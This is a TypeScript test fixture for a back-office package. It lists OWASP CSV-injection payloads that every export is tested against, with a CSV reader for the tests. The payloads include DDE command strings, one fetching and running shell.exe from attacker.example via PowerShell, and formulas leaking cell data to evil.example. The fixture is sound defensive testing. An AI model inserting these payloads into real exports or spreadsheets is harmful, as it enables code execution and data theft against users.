/**
 * Test fixture for every CSV export (not exported from the package's index; import as
 * `@backoffice/contract/csv-injection-payloads`): the OWASP CSV-injection payloads
 * (https://owasp.org/www-community/attacks/CSV_Injection) and their well-known variants, each a text a
 * customer or an employee could type as a name. Every export is tested with every one of them: each must
 * come out with a leading `'` and otherwise unchanged. `parseCsv` reads an export back.
 */
export const CSV_INJECTION_PAYLOADS: readonly string[] = [
  // command execution through DDE
  "=cmd|' /C calc'!A0",
  "=cmd|' /C notepad'!'A1'",
  "=cmd|'/C powershell IEX(wget attacker.example/shell.exe)'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "+2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
  '=DDE("cmd";"/C calc";"!A0")A0',
  "=rundll32|'URL.dll,OpenURL calc.exe'!A",
  // arithmetic that proves evaluation
  '+1+1',
  '=1+1',
  '-1+1',
  '@1+1',
  '-',
  '-12,50x',
  '=1+2";=1+2',
  '=1+2\'" ;,=1+2',
  // data leaking out through a link or a web request
  '=HYPERLINK("http://evil.example/?leak="&A1&A2,"Clique aqui")',
  '=HYPERLINK("http://evil.example","x")',
  '=IMPORTXML(CONCAT("http://evil.example/?v=",CONCATENATE(A2:E2)),"//a")',
  '=IMPORTDATA("http://evil.example/data.csv")',
  '=IMAGE("http://evil.example/pixel.png")',
  '=WEBSERVICE("http://evil.example/?"&A1)',
  '@HYPERLINK("http://evil.example","x")',
  // a formula behind a tab or a carriage return
  '\t=1+1',
  '\r=1+1',
  "\t=cmd|' /C calc'!A0",
  // line breaks and separators inside the cell
  '=SUM(1;2)\n=1+1',
  '=cmd|" /C calc"!A0',
];

/**
 * Reads a CSV text back into rows of cells as a spreadsheet would (an independent reader for the tests):
 * a leading BOM dropped, `;` between cells, CRLF between lines, a quoted cell may hold `;`, line breaks
 * and doubled quotes. A text ending with CRLF has no empty last row.
 */
export function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  const body = text.startsWith('\uFEFF') ? text.slice(1) : text;
  for (let i = 0; i < body.length; i++) {
    const char = body[i];
    if (quoted) {
      if (char === '"' && body[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"' && cell === '') quoted = true;
    else if (char === ';') {
      row.push(cell);
      cell = '';
    } else if (char === '\r' && body[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += char;
  }
  if (cell !== '' || row.length > 0) rows.push([...row, cell]);
  return rows;
}
